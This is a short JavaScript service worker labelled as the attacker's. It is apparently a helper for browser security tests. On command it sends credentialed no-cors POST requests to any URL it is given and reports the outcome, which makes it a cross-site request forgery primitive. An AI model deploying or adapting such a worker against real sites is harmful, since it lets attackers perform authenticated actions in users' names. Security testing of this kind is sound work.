/* A service worker of the attacker: sends what it is told to. */
addEventListener('install', () => skipWaiting());
addEventListener('activate', (event) => event.waitUntil(clients.claim()));
addEventListener('message', ({ data: url, ports: [port] }) => {
  fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include' }).then(
    ({ type }) => port.postMessage(type),
    ({ name }) => port.postMessage(name),
  );
});
